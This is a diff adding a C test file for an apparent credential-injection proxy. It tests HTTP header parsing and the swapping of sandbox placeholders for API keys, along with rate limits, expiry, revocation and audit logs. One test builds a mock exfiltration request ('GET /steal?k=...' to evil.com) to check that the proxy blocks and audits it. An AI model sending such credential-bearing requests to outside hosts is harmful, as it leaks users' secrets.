@@ -1,0 +1,275 @@
+/* Credential injection: the request-head parser and the rewrite, against a
+ * real SQLite DB and the local vault, with the clock injected. */
+#include <errno.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "../../src/cred/cred.h"
+#include "../../src/cred/inject.h"
+#include "../../src/cred/seal.h"
+#include "../../src/cred/vault.h"
+#include "check.h"
+
+static long parse(const char *s, struct http_head *h)
+{
+	return head_parse(s, strlen(s), h);
+}
+
+static void test_parse(void)
+{
+	struct http_head h;
+	const char ok[] = "GET /a?b=c HTTP/1.1\r\nHost: x.com\r\nX-Y:  spaced  \r\n\r\nBODY";
+	struct buf b;
+
+	CHECK(parse(ok, &h) == (long)(strlen(ok) - 4));
+	CHECK(strcmp(h.method, "GET") == 0 && strcmp(h.target, "/a?b=c") == 0);
+	CHECK(h.n == 2 && strcmp(head_get(&h, "x-y"), "spaced") == 0);
+	head_set(&h, "host", "y.com");
+	head_set(&h, "New", "1");
+	buf_init(&b);
+	head_write(&h, &b);
+	CHECK(strcmp(b.data, "GET /a?b=c HTTP/1.1\r\nHost: y.com\r\nX-Y: spaced\r\nNew: 1\r\n\r\n") == 0);
+	buf_free(&b);
+	head_free(&h);
+
+	CHECK(parse("GET / HTTP/1.1\r\nHost: x", &h) == 0);       /* incomplete */
+	CHECK(parse("GET / HTTP/1.1\r", &h) == 0);
+	static const char *const bad[] = {
+		"GET / HTTP/1.1\nHost: x\n\n",            /* bare LF */
+		"GET  / HTTP/1.1\r\n\r\n",
+		"GET / HTTP/2.0\r\n\r\n",
+		"G(T / HTTP/1.1\r\n\r\n",
+		"GET / HTTP/1.1\r\n folded\r\n\r\n",
+		"GET / HTTP/1.1\r\nBad Name: x\r\n\r\n",
+		"GET / HTTP/1.1\r\nNoColon\r\n\r\n",
+		"GET / HTTP/1.1\r\nX: a\x01b\r\n\r\n",
+		"GET /\x7f HTTP/1.1\r\n\r\n",
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
+		long r = parse(bad[i], &h);
+		if (r != -EINVAL)
+			fprintf(stderr, "bad head %zu: %ld\n", i, r);
+		CHECK(r == -EINVAL);
+	}
+	{
+		/* too many fields, too long */
+		struct buf big;
+		buf_init(&big);
+		buf_adds(&big, "GET / HTTP/1.1\r\n");
+		for (int i = 0; i < HEAD_MAX_FIELDS + 1; i++)
+			buf_printf(&big, "X%d: y\r\n", i);
+		buf_adds(&big, "\r\n");
+		CHECK(head_parse(big.data, big.len, &h) == -E2BIG);
+		buf_reset(&big);
+		buf_adds(&big, "GET /");
+		for (int i = 0; i < (int)HEAD_MAX; i++)
+			buf_addc(&big, 'a');
+		CHECK(head_parse(big.data, big.len, &h) == -E2BIG);
+		buf_free(&big);
+	}
+}
+
+struct env {
+	char dir[64];
+	struct db *db;
+	struct vault *vault;
+	struct inject_ctx ctx;
+};
+
+static void add_cred(struct env *e, const char *id, const char *json_spec, const char *value,
+		     const char *bind_sandbox)
+{
+	struct cred c = { 0 };
+	json *j = json_parse(json_spec, strlen(json_spec), NULL);
+	_cleanup_free_ char *ref = NULL;
+	err_t err = { 0 };
+
+	CHECK(j && cred_parse_spec(j, &c, &err) == 0);
+	json_free(j);
+	c.id = xstrdup(id);
+	c.tenant = xstrdup("ten_a");
+	c.version = 1;
+	c.created_at = wall_ms();
+	c.binds = xcalloc(1, sizeof(*c.binds));
+	c.n_binds = 1;
+	if (bind_sandbox) {
+		c.binds[0].kind = CRED_SCOPE_SANDBOX;
+		c.binds[0].value = xstrdup(bind_sandbox);
+	}
+	CHECK(cred_insert(e->db, &c, &err) == 0);
+	ref = cred_ref(id, 1);
+	CHECK(vault_put(e->vault, ref, value, strlen(value), &err) == 0);
+	cred_free(&c);
+}
+
+static int run(struct env *e, const char *sandbox, const char *host, const char *req,
+	       struct buf *out, enum inject_verdict *v)
+{
+	struct inject_who who = { .tenant = "ten_a", .sandbox_id = sandbox, .host = host };
+	struct http_head h;
+	int n = -1;
+	err_t err = { 0 };
+
+	buf_reset(out);
+	CHECK(parse(req, &h) > 0);
+	CHECK(cred_inject(&e->ctx, &who, &h, v, &n, &err) == 0);
+	head_write(&h, out);
+	head_free(&h);
+	return n;
+}
+
+static int audits(struct env *e, const char *decision)
+{
+	struct db_rows rows;
+	int n;
+
+	CHECK(db_query(e->db, &rows, NULL, "SELECT count(*) FROM credential_audit WHERE decision = ?",
+		       "s", decision) == 0);
+	n = (int)db_cell_int(&rows, 0, 0);
+	db_rows_free(&rows);
+	return n;
+}
+
+static void test_inject(void)
+{
+	struct env e = { .dir = "/tmp/airlock-test-inject-XXXXXX" };
+	_cleanup_free_ char *path = NULL, *ph = NULL, *ph_gh = NULL, *ph_other = NULL;
+	enum inject_verdict v;
+	struct seal_key k;
+	struct buf out, req;
+	err_t err = { 0 };
+
+	CHECK(mkdtemp(e.dir) != NULL);
+	path = xasprintf("%s/db", e.dir);
+	e.db = db_open(path, &err);
+	CHECK(e.db != NULL);
+	if (!e.db)
+		return;
+	CHECK(seal_keygen(&k, NULL) == 0);
+	e.vault = vault_local_open(e.db, &k);
+	e.ctx = (struct inject_ctx){ .db = e.db, .vault = e.vault, .rl = inject_rl_new(),
+				     .now_ms = wall_ms() };
+	add_cred(&e, "cred_oa", "{\"name\":\"oa\",\"env\":\"OPENAI_API_KEY\",\"inject\":"
+		 "{\"type\":\"header\"},\"hosts\":[\"api.openai.com\"],\"rate_limit\":"
+		 "{\"per_minute\":3}}", "sk-REAL", NULL);
+	add_cred(&e, "cred_gh", "{\"name\":\"gh\",\"env\":\"GH_TOKEN\",\"inject\":{\"type\":\"basic\","
+		 "\"username\":\"x-access-token\"},\"hosts\":[\"*.github.com\"],\"methods\":[\"GET\"],"
+		 "\"path_prefix\":\"/repos/\"}", "ghp_REAL", NULL);
+	add_cred(&e, "cred_q", "{\"name\":\"q\",\"inject\":{\"type\":\"query\",\"param\":\"key\"},"
+		 "\"hosts\":[\"maps.example.com\"]}", "q&REAL", "sbx_1");
+	add_cred(&e, "cred_old", "{\"name\":\"old\",\"env\":\"OLD\",\"inject\":{\"type\":\"header\","
+		 "\"header\":\"X-Api-Key\"},\"hosts\":[\"old.example.com\"],"
+		 "\"expires_at\":4102444800}", "old-REAL", NULL);
+	ph = cred_placeholder(e.db, "sbx_1", "cred_oa", &err);
+	ph_gh = cred_placeholder(e.db, "sbx_1", "cred_gh", &err);
+	ph_other = cred_placeholder(e.db, "sbx_2", "cred_oa", &err);
+	CHECK(ph && ph_gh && ph_other);
+	buf_init(&out);
+	buf_init(&req);
+
+	/* placeholder in Authorization is replaced */
+	buf_printf(&req, "POST /v1/chat HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer %s"
+		   "\r\n\r\n", ph);
+	CHECK(run(&e, "sbx_1", "api.openai.com", req.data, &out, &v) == 1 && v == INJECT_FORWARD);
+	CHECK(strstr(out.data, "Authorization: Bearer sk-REAL\r\n") && !strstr(out.data, ph));
+	/* no placeholder: the header is added */
+	CHECK(run(&e, "sbx_1", "api.openai.com", "GET / HTTP/1.1\r\nHost: api.openai.com\r\n\r\n",
+		  &out, &v) == 1);
+	CHECK(strstr(out.data, "Authorization: Bearer sk-REAL\r\n") != NULL);
+	/* the placeholder toward another host: untouched, audited */
+	buf_reset(&req);
+	buf_printf(&req, "GET /steal?k=%s HTTP/1.1\r\nHost: evil.com\r\nX-K: %s\r\n\r\n", ph, ph);
+	CHECK(audits(&e, "exfiltration_attempt") == 0);
+	CHECK(run(&e, "sbx_1", "evil.com", req.data, &out, &v) == 0);
+	CHECK(strstr(out.data, ph) && !strstr(out.data, "REAL"));
+	CHECK(audits(&e, "exfiltration_attempt") == 1);
+	/* another sandbox's placeholder sent from sbx_1 to the right host */
+	buf_reset(&req);
+	buf_printf(&req, "GET / HTTP/1.1\r\nHost: api.openai.com\r\nX-Other: %s\r\n\r\n", ph_other);
+	CHECK(run(&e, "sbx_1", "api.openai.com", req.data, &out, &v) == 1);
+	CHECK(strstr(out.data, ph_other) != NULL);
+	CHECK(audits(&e, "exfiltration_attempt") == 2);
+	/* rate limit: 3 per minute; this was the fourth use */
+	CHECK(run(&e, "sbx_1", "api.openai.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 0);
+	CHECK(v == INJECT_RATE_LIMITED && audits(&e, "rate_limited") == 1);
+	/* another sandbox has its own counter; the next minute resets ours */
+	CHECK(run(&e, "sbx_2", "api.openai.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 1 &&
+	      v == INJECT_FORWARD);
+	e.ctx.now_ms += 60000;
+	CHECK(run(&e, "sbx_1", "api.openai.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 1 &&
+	      v == INJECT_FORWARD);
+
+	/* basic auth in a wildcard host, path prefix and method respected;
+	 * a placeholder inside the client's Basic credentials is replaced */
+	{
+		_cleanup_free_ char *up = xasprintf("x-access-token:%s", ph_gh);
+		_cleanup_free_ char *b64 = base64_encode(up, strlen(up));
+		_cleanup_free_ char *want_b64 = base64_encode("x-access-token:ghp_REAL", 23);
+		_cleanup_free_ char *want = xasprintf("Authorization: Basic %s\r\n", want_b64);
+		buf_reset(&req);
+		buf_printf(&req, "GET /repos/a/b HTTP/1.1\r\nAuthorization: Basic %s\r\n\r\n", b64);
+		CHECK(run(&e, "sbx_1", "api.github.com", req.data, &out, &v) == 1);
+		CHECK(strstr(out.data, want) != NULL);
+		CHECK(run(&e, "sbx_1", "github.com", req.data, &out, &v) == 0);      /* apex */
+		CHECK(run(&e, "sbx_1", "api.github.com", "POST /repos/a HTTP/1.1\r\n\r\n", &out,
+			  &v) == 0);                                                  /* method */
+		CHECK(run(&e, "sbx_1", "api.github.com", "GET /user HTTP/1.1\r\n\r\n", &out,
+			  &v) == 0);                                                  /* path */
+	}
+	/* query injection, bound to sbx_1 only; the value is percent-encoded */
+	CHECK(run(&e, "sbx_1", "maps.example.com", "GET /geo?key=mine&x=1 HTTP/1.1\r\n\r\n", &out,
+		  &v) == 1);
+	CHECK(strncmp(out.data, "GET /geo?x=1&key=q%26REAL HTTP/1.1\r\n", 36) == 0);
+	CHECK(run(&e, "sbx_2", "maps.example.com", "GET /geo HTTP/1.1\r\n\r\n", &out, &v) == 0);
+
+	/* expiry (by the injected clock) and revocation stop injection */
+	CHECK(run(&e, "sbx_1", "old.example.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 1);
+	CHECK(strstr(out.data, "X-Api-Key: old-REAL\r\n") != NULL);
+	e.ctx.now_ms = 4102444800000LL + 1;
+	CHECK(run(&e, "sbx_1", "old.example.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 0);
+	CHECK(!strstr(out.data, "REAL"));
+	e.ctx.now_ms = wall_ms() + 120000;
+	CHECK(db_exec(e.db, NULL, "UPDATE credentials SET revoked_at = 1 WHERE id = 'cred_oa'",
+		      NULL) == 1);
+	buf_reset(&req);
+	buf_printf(&req, "GET / HTTP/1.1\r\nAuthorization: Bearer %s\r\n\r\n", ph);
+	CHECK(run(&e, "sbx_1", "api.openai.com", req.data, &out, &v) == 0);
+	CHECK(strstr(out.data, ph) && !strstr(out.data, "REAL"));
+	CHECK(audits(&e, "revoked") == 1);
+	/* no audit record ever holds a value */
+	{
+		struct db_rows rows;
+		CHECK(db_query(e.db, &rows, NULL, "SELECT count(*) FROM credential_audit WHERE"
+			       " coalesce(path,'') || coalesce(detail,'') || coalesce(host,'')"
+			       " LIKE '%REAL%'", NULL) == 0);
+		CHECK(db_cell_int(&rows, 0, 0) == 0);
+		db_rows_free(&rows);
+	}
+	{
+		struct inject_who who = { .tenant = "ten_a", .sandbox_id = "sbx_1",
+					  .host = "x.github.com" };
+		CHECK(cred_host_has_credential(&e.ctx, &who));
+		who.host = "example.org";
+		CHECK(!cred_host_has_credential(&e.ctx, &who));
+	}
+
+	buf_free(&out);
+	buf_free(&req);
+	inject_rl_free(e.ctx.rl);
+	vault_close(e.vault);
+	db_close(e.db);
+	{
+		_cleanup_free_ char *cmd = xasprintf("rm -rf '%s'", e.dir);
+		CHECK(system(cmd) == 0);
+	}
+}
+
+int main(void)
+{
+	test_parse();
+	test_inject();
+	if (failures)
+		fprintf(stderr, "%d check(s) failed\n", failures);
+	return failures ? 1 : 0;
+}
